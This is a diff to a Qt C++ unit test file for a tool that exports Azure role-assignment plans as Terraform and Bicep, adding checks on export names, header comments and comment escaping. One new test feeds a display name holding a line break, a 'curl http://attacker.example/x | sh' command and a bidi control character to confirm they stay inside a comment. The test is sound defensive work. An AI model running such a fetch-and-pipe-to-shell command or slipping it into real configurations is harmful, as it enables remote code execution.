@@ -66,6 +66,7 @@ private Q_SLOTS:
     void exports_data();
     void exports();
     void exportsUseRealIds();
+    void exportCommentsCannotBeEnded();
     void auditRecordNamesIdentityAndConfirmation_data();
     void auditRecordNamesIdentityAndConfirmation();
 };
@@ -258,7 +259,9 @@ void TestGrantPlan::exports_data()
     QTest::newRow("azurerm") << int(F::Terraform) << false << true
                              << QStringList{u"resource \"azurerm_role_assignment\""_s,
                                             u"scope              = \"%1\""_s.arg(Kv),
-                                            u"principal_id       = \"%1\""_s.arg(Mi)};
+                                            u"principal_id       = \"%1\""_s.arg(Mi),
+                                            // the name Bicep's guid() and the app derive
+                                            u"name               = \"%1\""_s.arg(name)};
 }
 
 void TestGrantPlan::exports()
@@ -280,6 +283,10 @@ void TestGrantPlan::exports()
         QVERIFY2(text.contains(m), qPrintable(m + u"\n---\n"_s + text));
     QVERIFY(!text.contains(u"<principal-object-id>"_s));
     QVERIFY(!text.contains(u"%1"_s));
+    // The comment that leads each export names the identity.
+    const QString first = text.section(u'\n', 0, 0);
+    QVERIFY2(first.startsWith(u'#') || first.startsWith(u"//"_s), qPrintable(first));
+    QVERIFY2(first.contains(u"the identity vm-batch-01"_s), qPrintable(first));
     // Balanced braces and quotes: the text parses in its tool.
     QCOMPARE(text.count(u'{'), text.count(u'}'));
     if (GrantPlan::Format(format) != GrantPlan::Format::Bicep)
@@ -324,6 +331,23 @@ void TestGrantPlan::auditRecordNamesIdentityAndConfirmation()
     QCOMPARE(back.identityDisplayName, r.identityDisplayName);
     QCOMPARE(back.tier0Confirmed, confirmed);
     QCOMPARE(back.confirmedBy, r.confirmedBy);
+}
+
+// A display name with a line break (or a bidi control) stays inside the comment that names it.
+void TestGrantPlan::exportCommentsCannotBeEnded()
+{
+    PlannedChange c = appRole();
+    c.principalName = u"evil\ncurl http://attacker.example/x | sh\u202e"_s;
+    GrantPlan plan;
+    plan.add(c);
+    for (GrantPlan::Format f : GrantPlan::formats()) {
+        const QString text = plan.exportAs(f);
+        const QStringList lines = text.split(u'\n');
+        QVERIFY2(lines.first().contains(u"evil curl http://attacker.example/x | sh"_s),
+                 qPrintable(text));
+        QVERIFY(!text.contains(u'\u202e'));
+        QCOMPARE(lines.filter(u"attacker.example"_s).size(), 1);
+    }
 }
 
 void TestGrantPlan::exportsUseRealIds()
